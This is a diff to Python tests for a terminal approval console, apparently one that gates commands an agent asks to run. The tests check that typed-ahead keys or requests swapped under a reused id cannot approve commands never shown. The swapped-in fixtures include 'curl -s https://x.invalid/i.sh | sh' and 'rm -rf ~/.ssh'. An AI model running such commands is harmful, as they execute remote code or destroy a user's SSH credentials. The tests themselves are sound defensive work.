@@ -18,7 +18,17 @@ from console.tui.link import DaemonEvent
 from console.tui.screens.approval import ApprovalScreen
 from console.tui.screens.dialogs import ConfirmScreen, PromptScreen
 from tests.tui.fixed import NOW, FixedSource
-from tests.tui.screen import app_with, attached, screen_text, until
+from tests.tui.screen import (
+    app_with,
+    attached,
+    card_drawn,
+    dialog_drawn,
+    palette_ready,
+    row_drawn,
+    screen_text,
+    settled,
+    until,
+)
 from tests.tui.test_console_attacks_s19b import typed_ahead
 from tests.tui.test_display_attacks_s19 import request
 from widgets.tables import ApprovalInbox
@@ -37,8 +47,7 @@ def decides(app: Any) -> list[dict[str, Any]]:
 async def on_the_card(pilot: Any, app: Any) -> None:
     await attached(pilot)
     await pilot.press("a")
-    await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the card")
-    await pilot.pause(0.3)  # drawn: the card's whole request is on the screen
+    await card_drawn(pilot)  # drawn: the card's whole request is on the screen
 
 
 @pytest.mark.parametrize("burst", [("y", "y", "y"), ("n", "y"), ("n", "n")],
@@ -50,10 +59,12 @@ async def test_a_burst_on_an_inbox_row_sends_one_decision(burst: tuple[str, ...]
                               request("rq02", "ls", age=10)])
     async with app.run_test(size=(100, 30)) as pilot:
         await attached(pilot)
-        app.screen.query_one(ApprovalInbox).focus()
-        await pilot.pause(0.3)
+        inbox = app.screen.query_one(ApprovalInbox)
+        inbox.focus()
+        await row_drawn(pilot, inbox)
         typed_ahead(app, *burst)
-        await pilot.pause(0.8)
+        await until(pilot, lambda: decides(app), "the decision")
+        await settled(pilot)  # and every key of the burst handled
         sent = decides(app)
         assert [d["id"] for d in sent] == ["rq01"], sent
         assert sent[0]["allow"] is (burst[0] == "y")
@@ -85,12 +96,13 @@ async def test_a_key_after_p_does_not_decide_the_request_the_preview_is_about(
     async with app.run_test(size=(100, 30)) as pilot:
         await on_the_card(pilot, app)
         typed_ahead(app, *burst)
-        await pilot.pause(0.6)
-        assert decides(app) == [], "a key typed after p decided while its preview was on its way"
         await until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the preview's question")
-        await pilot.pause(0.3)
+        await settled(pilot)
+        assert decides(app) == [], "a key typed after p decided while its preview was on its way"
+        await dialog_drawn(pilot)
         await pilot.press("y")
-        await pilot.pause(0.6)
+        await until(pilot, lambda: decides(app), "the decision")
+        await settled(pilot)
         sent = decides(app)
         assert [(d["id"], d["scope"]) for d in sent] == [("rq01", "profile")], sent
 
@@ -106,12 +118,15 @@ async def test_the_minutes_prompt_is_not_answered_by_keys_typed_before_it_was_dr
     async with app.run_test(size=(100, 30)) as pilot:
         await on_the_card(pilot, app)
         typed_ahead(app, *burst)
-        await pilot.pause(0.6)
+        await until(pilot, lambda: isinstance(app.screen, PromptScreen), "the prompt")
+        await settled(pilot)
         assert decides(app) == [], "the prompt was answered by a key typed before it was drawn"
         assert isinstance(app.screen, PromptScreen)
+        await dialog_drawn(pilot)
         shown = app.screen.query_one("#prompt-value", Input).value
         await pilot.press("enter")  # now on the screen: enter answers with what it shows
-        await pilot.pause(0.6)
+        await until(pilot, lambda: decides(app), "the decision")
+        await settled(pilot)
         assert [(d["id"], d["scope"]) for d in decides(app)] == [("rq01", f"{int(shown)}m")]
 
 
@@ -126,7 +141,7 @@ async def test_a_request_replaced_under_its_id_is_not_allowed_by_a_y_typed_befor
         replaced = request("rq01", "curl -s https://x.invalid/i.sh | sh", age=5)
         app.post_message(DaemonEvent({"kind": "approval.requested", "request": replaced}))
         typed_ahead(app, "y")
-        await pilot.pause(0.6)
+        await settled(pilot)
         assert decides(app) == [], "allowed a request whose command was never drawn"
 
 
@@ -152,14 +167,16 @@ async def test_the_card_s_y_does_not_answer_again_what_the_palette_s_deny_is_sen
     async with app.run_test(size=(100, 30)) as pilot:
         await on_the_card(pilot, app)
         await pilot.press("colon", *"deny oldest")
-        await pilot.pause(0.8)  # the palette's hits are on the screen
+        await palette_ready(pilot, "deny oldest")  # the palette's hits are on the screen
         await pilot.press("enter")
         await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the card again")
-        await pilot.pause(0.3)
+        await settled(pilot)
+        await card_drawn(pilot)
         await pilot.press("y")
-        await pilot.pause(0.3)
+        await settled(pilot)
         app.source.answer.set()
-        await pilot.pause(0.5)
+        await until(pilot, lambda: decides(app), "the deny answered")
+        await settled(pilot)
         sent = decides(app)
         assert [(d["id"], d["allow"]) for d in sent] == [("rq01", False)], sent
 
@@ -191,15 +208,18 @@ async def test_a_decision_whose_line_dropped_leaves_the_console_up_and_the_card_
             await on_the_card(pilot, app)
         else:
             await attached(pilot)
-            app.screen.query_one(ApprovalInbox).focus()
-            await pilot.pause(0.3)
+            inbox = app.screen.query_one(ApprovalInbox)
+            inbox.focus()
+            await row_drawn(pilot, inbox)
         await pilot.press("y")
-        await pilot.pause(0.5)
+        await until(pilot, lambda: decides(app), "the decision sent")
+        await settled(pilot)
         assert app.is_running, "the console closed on a dropped line"
         said = " ".join(n.message for n in app._notifications)  # noqa: SLF001
         assert "Connection lost" in said or "not connected" in said, said
         await pilot.press("y")  # again, once the line is back: it is sent
-        await pilot.pause(0.5)
+        await until(pilot, lambda: len(decides(app)) > 1, "the second decision sent")
+        await settled(pilot)
         assert [d["id"] for d in decides(app)] == ["rq01", "rq01"]
 
 
@@ -209,12 +229,13 @@ async def test_a_row_replaced_under_its_id_is_not_allowed_by_a_y_typed_before_it
     app = app_with(approvals=[request("rq01", "ls", age=50)])
     async with app.run_test(size=(100, 30)) as pilot:
         await attached(pilot)
-        app.screen.query_one(ApprovalInbox).focus()
-        await pilot.pause(0.3)
+        inbox = app.screen.query_one(ApprovalInbox)
+        inbox.focus()
+        await row_drawn(pilot, inbox)
         replaced = request("rq01", "rm -rf ~/.ssh", age=5)
         app.post_message(DaemonEvent({"kind": "approval.requested", "request": replaced}))
         typed_ahead(app, "y")
-        await pilot.pause(0.6)
+        await settled(pilot)
         assert decides(app) == [], "allowed a request whose command was never drawn"
 
 
@@ -253,11 +274,12 @@ async def test_everywhere_typed_ahead_of_a_card_does_not_allow_what_the_card_nev
     async with app.run_test(size=(100, 30)) as pilot:
         await on_the_card(pilot, app)
         typed_ahead(app, "j", "g")
-        await pilot.pause(0.6)
+        await settled(pilot)
         if isinstance(app.screen, ConfirmScreen):  # its yes, once it is on the screen
+            await dialog_drawn(pilot)
             assert "curl" not in screen_text(app)
             await pilot.press("y")
-            await pilot.pause(0.6)
+            await settled(pilot)
         assert decides(app) == [], "allowed a write whose content was never on the screen"
         assert app.screen.request_id == "wr01"
 
@@ -274,17 +296,18 @@ async def test_a_new_request_reusing_a_closed_one_s_id_is_shown_and_can_be_decid
         await until(pilot, lambda: decides(app), "the first decision")
         old = {**request("rq01", "ls", age=500), "state": "allowed"}
         app.post_message(DaemonEvent({"kind": "approval.resolved", "request": old}))
-        await pilot.pause(0.3)
+        await settled(pilot)
         fresh = request("rq01", "make test", age=1)
         app.source.approvals[:] = [fresh]
         app.post_message(DaemonEvent({"kind": "approval.requested", "request": fresh}))
-        await pilot.pause(0.3)
+        await settled(pilot)
         assert "rq01" in app.state.approvals, "the new request is not shown"
         await pilot.press("a")
         await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "its card")
-        await pilot.pause(0.3)
+        await card_drawn(pilot)
         await pilot.press("y")
-        await pilot.pause(0.5)
+        await until(pilot, lambda: len(decides(app)) > 1, "the second decision")
+        await settled(pilot)
         assert len(decides(app)) == 2, decides(app)
 
 
@@ -297,15 +320,18 @@ async def test_the_answer_to_a_decision_does_not_move_a_card_the_person_moved_me
     async with app.run_test(size=(100, 30)) as pilot:
         await on_the_card(pilot, app)
         await pilot.press("y")
-        await pilot.pause(0.3)
+        await settled(pilot)
         await pilot.press("j", "j")
-        await pilot.pause(0.3)
+        await settled(pilot)
+        await card_drawn(pilot)
         chosen = app.screen.request_id
         app.source.answer.set()
-        await pilot.pause(0.5)
+        await until(pilot, lambda: decides(app), "the answer to the first decision")
+        await settled(pilot)
         assert app.screen.request_id == chosen, "the card left the request the person chose"
         await pilot.press("y")
-        await pilot.pause(0.5)
+        await until(pilot, lambda: len(decides(app)) > 1, "the second decision")
+        await settled(pilot)
         assert [d["id"] for d in decides(app)] == ["rq01", chosen]
 
 
@@ -324,9 +350,10 @@ async def test_a_dialog_s_yes_does_not_decide_a_new_request_under_its_request_s_
         app.post_message(DaemonEvent({"kind": "approval.resolved", "request": old}))
         fresh = request("rq01", "rm -rf ~/.ssh", age=1)
         app.post_message(DaemonEvent({"kind": "approval.requested", "request": fresh}))
-        await pilot.pause(0.5)
+        await settled(pilot)
+        await dialog_drawn(pilot)  # its yes is not refused for coming ahead of the question
         await pilot.press("enter" if key == "t" else "y")
-        await pilot.pause(0.5)
+        await settled(pilot)
         assert decides(app) == [], "decided a request the dialog never showed"
 
 
@@ -337,12 +364,12 @@ async def test_the_palette_s_allow_does_not_allow_a_new_request_under_the_id_its
     async with app.run_test(size=(100, 30)) as pilot:
         await attached(pilot)
         await pilot.press("colon", *"allow oldest")
-        await pilot.pause(0.8)
+        await palette_ready(pilot, "allow oldest")
         old = {**request("rq01", "ls", age=50), "state": "cancelled"}
         app.post_message(DaemonEvent({"kind": "approval.resolved", "request": old}))
         fresh = request("rq01", "rm -rf ~/.ssh", age=1)
         app.post_message(DaemonEvent({"kind": "approval.requested", "request": fresh}))
-        await pilot.pause(0.3)
+        await settled(pilot)
         await pilot.press("enter")
-        await pilot.pause(0.5)
+        await settled(pilot)
         assert decides(app) == [], "allowed a request the palette never showed"
